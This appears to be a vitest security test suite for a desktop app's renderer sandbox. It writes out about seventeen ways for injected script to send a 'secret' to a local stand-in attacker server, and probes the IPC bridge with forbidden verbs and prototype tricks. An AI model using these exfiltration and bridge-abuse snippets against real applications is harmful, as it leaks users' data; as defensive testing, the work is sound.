import { connect, createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ActivityRow } from '../../contract/activity.ts';
import type { DeskProcess } from '../support/deskProcess.ts';
import { ASKED_BEHIND } from '../support/askedBehind.ts';
import { Place } from '../support/place.ts';
import { eventually, until } from '../support/until.ts';

/** The test's own connection comes from here. */
const OWN = '127.0.0.2';

describe('script in the renderer, as an attacker would have it', () => {
  let place: Place;
  let desk: DeskProcess;
  let supervisor: DeskProcess;
  /** An attacker's host: a connection to it proves that something got out. */
  let attacker: Server;
  let port = 0;
  let connections = 0;
  let ownConnections = 0;

  beforeAll(async () => {
    attacker = createServer((socket) => {
      if (socket.remoteAddress === OWN) ownConnections += 1;
      else connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    port = (attacker.address() as AddressInfo).port;
    place = await Place.open();
    desk = await place.deskOf('maya');
    supervisor = await place.deskOf('sofia');
  });
  afterAll(async () => {
    await place?.close();
    attacker?.close();
  });

  async function recorded(kind: string): Promise<number> {
    return (
      await supervisor.call<{ rows: ActivityRow[]; total: number }>('queryActivity', {
        filter: { kind },
        newest: null,
        offset: 0,
        limit: 50,
      })
    ).total;
  }

  const WAYS: readonly (readonly [name: string, kinds: readonly string[], script: (url: string) => string])[] = [
    ['fetch', ['request-blocked'], (url) => `fetch(${JSON.stringify(url)}).catch(() => {})`],
    [
      'XMLHttpRequest',
      ['request-blocked'],
      (url) => `(() => { const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(url)}); x.send(); })()`,
    ],
    [
      'WebSocket',
      ['request-blocked'],
      (url) => `(() => { try { new WebSocket(${JSON.stringify(url.replace('http', 'ws'))}); } catch {} })()`,
    ],
    [
      'EventSource',
      ['request-blocked'],
      (url) => `(() => { try { new EventSource(${JSON.stringify(url)}); } catch {} })()`,
    ],
    ['sendBeacon', ['request-blocked'], (url) => `navigator.sendBeacon(${JSON.stringify(url)}, 'x')`],
    [
      'an image',
      ['request-blocked'],
      (url) => `(() => { const i = new Image(); i.src = ${JSON.stringify(url)}; document.body.append(i); })()`,
    ],
    [
      'a style sheet',
      ['request-blocked'],
      (url) =>
        `(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = ` +
        `${JSON.stringify(url)}; document.head.append(l); })()`,
    ],
    [
      'an iframe',
      ['request-blocked', 'navigation-blocked'],
      (url) =>
        `(() => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(url)}; ` +
        'document.body.append(f); })()',
    ],
    [
      'a form post',
      ['request-blocked', 'navigation-blocked'],
      (url) =>
        `(() => { const f = document.createElement('form'); f.method = 'post'; f.action = ` +
        `${JSON.stringify(url)}; document.body.append(f); f.submit(); })()`,
    ],
    ['window.open', ['popup-blocked'], (url) => `void window.open(${JSON.stringify(url)})`],
    [
      'a link in a new window',
      ['popup-blocked', 'navigation-blocked', 'request-blocked'],
      (url) =>
        `(() => { const a = document.createElement('a'); a.href = ${JSON.stringify(url)}; a.target = '_blank'; ` +
        'document.body.append(a); a.click(); })()',
    ],
    [
      'a link',
      ['navigation-blocked', 'request-blocked'],
      (url) =>
        `(() => { const a = document.createElement('a'); a.href = ${JSON.stringify(url)}; ` +
        'document.body.append(a); a.click(); })()',
    ],
    ['a service worker', ['script-blocked'], () => `navigator.serviceWorker.register('/sw.js').catch(() => {})`],
    [
      'preconnect',
      [],
      (url) =>
        `(() => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = ` +
        `${JSON.stringify(url)}; document.head.append(l); })()`,
    ],
    [
      'prefetch',
      [],
      (url) =>
        `(() => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = ${JSON.stringify(url)}; ` +
        'document.head.append(l); })()',
    ],
    [
      'a WebRTC connection',
      [],
      (url) =>
        `(() => { try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + new ` +
        `URL(${JSON.stringify(url)}).port + '?transport=tcp' }] }); p.createDataChannel('x'); void ` +
        'p.createOffer().then((o) => p.setLocalDescription(o)); } catch {} })()',
    ],
    [
      'location',
      ['navigation-blocked', 'request-blocked'],
      (url) => `setTimeout(() => { location.href = ${JSON.stringify(url)}; }, 0)`,
    ],
  ];

  test.each(WAYS)('gets nothing out by %s', async (_name, kinds, script) => {
    const before = Promise.all(kinds.map(recorded));
    const counts = await before;
    const connectionsBefore = connections;
    // a navigation may end the evaluation
    await desk.evaluate(script(`http://127.0.0.1:${port}/out?secret=1`)).catch(() => undefined);
    if (kinds.length > 0) {
      await eventually('the attempt is recorded', async () => {
        const now = await Promise.all(kinds.map(recorded));
        return now.some((count, i) => count > (counts[i] ?? 0));
      });
    }
    // The desk still works, and a connection that began earlier would have arrived before this one.
    await desk.until<string>(
      'location.origin + typeof window.cleandesk',
      (seen) => seen.endsWith('object') && !seen.includes('127.0.0.1'),
    );
    await desk.evaluate(ASKED_BEHIND);
    const own = ownConnections;
    connect({ port, host: '127.0.0.1', localAddress: OWN }).on('error', () => undefined); // it is ended at once
    await until(() => ownConnections > own);
    expect(connections - connectionsBefore).toBe(0);
  });

  test('runs no javascript: address, and it is recorded', async () => {
    const before = await recorded('navigation-blocked');
    await desk.evaluate(
      `(() => { window.ran = false; const a = document.createElement('a'); a.href = ` +
        `'javascript:window.ran=true'; document.body.append(a); a.click(); })()`,
    );
    await eventually('the attempt is recorded', async () => (await recorded('navigation-blocked')) > before);
    expect(await desk.evaluate('window.ran')).toBe(false);
  });

  test('cannot turn text into markup', async () => {
    expect(
      await desk.evaluate(
        `(() => { try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); return 'allowed'; } catch ` +
          '(error) { return error.name; } })()',
      ),
    ).toBe('TypeError');
  });

  test.each([
    ['an unknown verb', `window.cleandesk.dumpDatabase`, 'undefined'],
    [
      'a prototype as a verb',
      `Object.getPrototypeOf(window.cleandesk)?.__proto__ === undefined || typeof window.cleandesk.constructor`,
      undefined,
    ],
  ])('finds no method for %s', async (_name, expression, type) => {
    if (type !== undefined) expect(await desk.evaluate(`typeof (${expression})`)).toBe(type);
    else
      expect(
        await desk.evaluate(
          `Object.keys(window.cleandesk).some((key) => ['constructor', '__proto__', 'invoke', 'send', ` +
            `'ipcRenderer', 'require'].includes(key))`,
        ),
      ).toBe(false);
  });

  test.each([
    [
      'an extra argument',
      `window.cleandesk.openConversation({ conversationId: crypto.randomUUID(), limit: 5, everything: true })`,
    ],
    ['a wrong type', `window.cleandesk.openConversation({ conversationId: 7, limit: '5' })`],
    ['a verb of another role', `window.cleandesk.queryActivity({ filter: {}, newest: null, offset: 0, limit: 5 })`],
    ['no arguments at all', `window.cleandesk.sendMessage()`],
    [
      'a message of a megabyte',
      'window.cleandesk.sendMessage({ conversationId: crypto.randomUUID(), messageId: crypto.randomUUID(), text: ' +
        `'x'.repeat(1_000_000) })`,
    ],
  ])('is refused, and recorded, with %s', async (_name, expression) => {
    const before = await recorded('bridge-refused');
    expect(
      await desk.evaluate(`${expression}.then(() => 'answered', (error) => 'refused: ' + (error instanceof Error))`),
    ).toBe('refused: true');
    await eventually('the refusal is recorded', async () => (await recorded('bridge-refused')) > before);
  });

  test.each([
    ['an unknown verb', '"dumpDatabase"'],
    ['a name that every object has', '"constructor"'],
    ['no name at all', 'null'],
    ['a list for a name', '["listConversations"]'],
  ])('is refused, and recorded, with %s, also from within the preload', async (_name, verb) => {
    const before = await recorded('bridge-refused');
    await desk.inPreload(
      'globalThis[Object.getOwnPropertyNames(globalThis).find((name) => ' +
        `name.startsWith('tell_'))](JSON.stringify({ kind: 'call', id: 900001, verb: ${verb}, args: {} }))`,
    );
    expect(await eventually('the refusal is recorded', async () => (await recorded('bridge-refused')) > before)).toBe(
      true,
    );
  });

  test('is refused, and recorded, from a frame that it makes', async () => {
    const before =
      (await recorded('bridge-refused')) + (await recorded('navigation-blocked')) + (await recorded('request-blocked'));
    const answer = await desk.evaluate<string>(`(async () => {
      const frame = document.createElement('iframe'); document.body.append(frame);
      // Tried at every picture for as long as the frame is there.
      let said = 'no bridge there';
      while (frame.isConnected) {
        const inner = frame.contentWindow?.cleandesk;
        if (inner !== undefined && inner !== null && said === 'no bridge there') {
          said = 'no answer';
          void inner.listConversations({}).then(() => { said = 'answered'; }, () => { said = 'refused'; });
        }
        await new Promise(requestAnimationFrame);
      }
      return said;
    })()`);
    expect(['no bridge there', 'refused', 'no answer']).toContain(answer);
    await eventually(
      'the frame or its call is recorded',
      async () =>
        (await recorded('bridge-refused')) +
          (await recorded('navigation-blocked')) +
          (await recorded('request-blocked')) >
        before,
    );
  });
});
